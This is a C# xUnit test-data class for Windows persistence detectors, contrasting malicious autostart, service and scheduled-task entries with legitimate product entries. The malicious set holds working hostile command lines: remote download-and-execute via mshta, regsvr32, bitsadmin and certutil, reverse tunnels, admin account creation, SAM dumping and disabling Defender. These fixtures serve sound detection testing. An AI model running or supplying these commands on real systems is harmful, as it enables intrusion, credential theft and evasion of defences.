using Afterpatch.Analysis.Detectors.Persistence;
using Afterpatch.Core;
using Xunit;

namespace Afterpatch.Analysis.Tests.Detectors.Persistence;

/// <summary>What starts by itself, as intruders plant it and as products leave it, written without a look at the detectors.</summary>
internal static class Blind
{
    public static TheoryData<string, string> Planted => new()
    {
        { "service", @"C:\Windows\System32\cmd.exe /c C:\Users\Public\Libraries\upd.bat" },
        { "service", @"C:\ProgramData\svchost.exe -k netsvcs" },
        { "service", @"rundll32.exe C:\ProgramData\wlbs.dll,Start" },
        { "service", @"C:\Windows\System32\mshta.exe http://203.0.113.5/a.hta" },
        { "serviceDll", @"C:\Windows\Temp\wmisvc.dll" },
        { "serviceDll", @"C:\Users\Public\Music\netsvc.dll" },
        { "failureCommand", @"powershell -ep bypass -f C:\Windows\Temp\r.ps1" },
        { "task", @"C:\Windows\System32\regsvr32.exe /s /n /u /i:http://203.0.113.5/s.sct scrobj.dll" },
        { "task", @"C:\Windows\System32\wscript.exe //e:vbscript C:\ProgramData\log.txt" },
        { "task", @"powershell -w 1 -c ""$k=(gp HKCU:\Software\Classes\x).y;iex $k""" },
        { "task", @"C:\Windows\SysWOW64\bitsadmin.exe /transfer j http://203.0.113.5/x.exe C:\Windows\Temp\x.exe" },
        { "task", @"cmd /c certutil -urlcache -f http://203.0.113.5/b.txt %TEMP%\b.exe && %TEMP%\b.exe" },
        { "task", @"C:\PerfLogs\chisel.exe client 203.0.113.5:443 R:socks" },
        { "task", @"C:\Windows\System32\ngrok.exe tcp 3389" },
        { "task", @"C:\ProgramData\ssh\plink.exe -R 3389:127.0.0.1:3389 203.0.113.5" },
        { "task", @"cmd /c net user support P@ss1 /add & net localgroup administrators support /add" },
        { "task", @"reg save hklm\sam C:\Windows\Temp\1" },
        { "task", @"C:\inetpub\wwwroot\aspnet_client\u.exe" },
        { "task", @"C:\Windows\Fonts\conhost.exe" },
        { "task", @"powershell Set-MpPreference -DisableRealtimeMonitoring $true" },
        { "Run", @"C:\Users\Administrator\AppData\Local\Temp\a.exe" },
        { "Screen saver", @"C:\Users\Public\s.scr" },
        { "COM server", @"C:\Users\Public\Documents\c.dll" },
        { "Print monitor", @"C:\Windows\Temp\mon.dll" },
    };

    public static TheoryData<string, string> Honest => new()
    {
        { "service", @"""C:\Program Files\Veeam\Backup and Replication\Backup\Veeam.Backup.Service.exe""" },
        { "service", @"""C:\Program Files\Microsoft Monitoring Agent\Agent\HealthService.exe""" },
        { "service", @"C:\Windows\CCM\CcmExec.exe" },
        { "service", @"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2102.4-0\MsMpEng.exe" },
        { "service", @"""C:\Program Files\AzureConnectedMachineAgent\himds.exe""" },
        { "service", @"""C:\Program Files\Trend Micro\SMEX\SMEX_Master.exe""" },
        { "service", @"""C:\Program Files (x86)\Symantec\SMSMSE\7.9\Server\SAVFMSESp.exe""" },
        { "service", @"""C:\Program Files\CodeTwo\CodeTwo Exchange Rules PRO\CodeTwo Exchange Rules Service.exe""" },
        { "serviceDll", @"%SystemRoot%\system32\wuaueng.dll" },
        { "task", @"""C:\Program Files (x86)\Google\Update\GoogleUpdate.exe"" /ua /installsource scheduler" },
        { "task", @"powershell.exe -NoProfile -ExecutionPolicy Bypass -File D:\Scripts\Purge-ExchangeLogs.ps1" },
        { "task", @"C:\Windows\System32\wbadmin.exe start backup -backupTarget:E: -include:C: -quiet" },
        { "task", @"cmd /c robocopy D:\data \\backup01\data /MIR /LOG:C:\Temp\robo.log" },
        { "Run", @"""C:\Program Files\VMware\VMware Tools\vmtoolsd.exe"" -n vmusr" },
        { "Print monitor", "HPMLM225.DLL" },
        { "COM server", @"C:\Users\admin\AppData\Local\Microsoft\OneDrive\21.030.0211.0002\FileSyncShell64.dll" },
    };

    public static Severity Worst(string kind, string command)
    {
        var findings = kind switch
        {
            "task" => Facts.Run(new ScheduledTaskDetector(), Facts.Task(@"\Contoso\Nightly", command[..End(command)].Trim('"'), command[End(command)..].Trim())),
            "service" => Facts.Run(new ServiceDetector(), Facts.Item("service", "svc", "unknown", ("imagePath", command))),
            "serviceDll" => Facts.Run(new ServiceDetector(), Facts.Item("service", "svc", "unknown", ("imagePath", @"%SystemRoot%\system32\svchost.exe -k netsvcs"), ("serviceDll", command))),
            "failureCommand" => Facts.Run(new ServiceDetector(), Facts.Item("service", "svc", "unknown", ("imagePath", @"C:\Program Files\A\a.exe"), ("failureCommand", command))),
            _ => Facts.Run(new AutostartDetector(), Facts.Item("autostart", $@"HKLM\X\{kind}\v", "unknown", ("location", kind), ("command", command))),
        };
        return findings.Count == 0 ? Severity.Informational : findings.Max(finding => finding.Severity);
    }

    /// <summary>Where the program ends: the scheduler keeps it apart from its arguments.</summary>
    private static int End(string command) =>
        command[0] == '"' ? command.IndexOf('"', 1) + 1 : command.IndexOf(' ', StringComparison.Ordinal) is var space and > 0 ? space : command.Length;
}
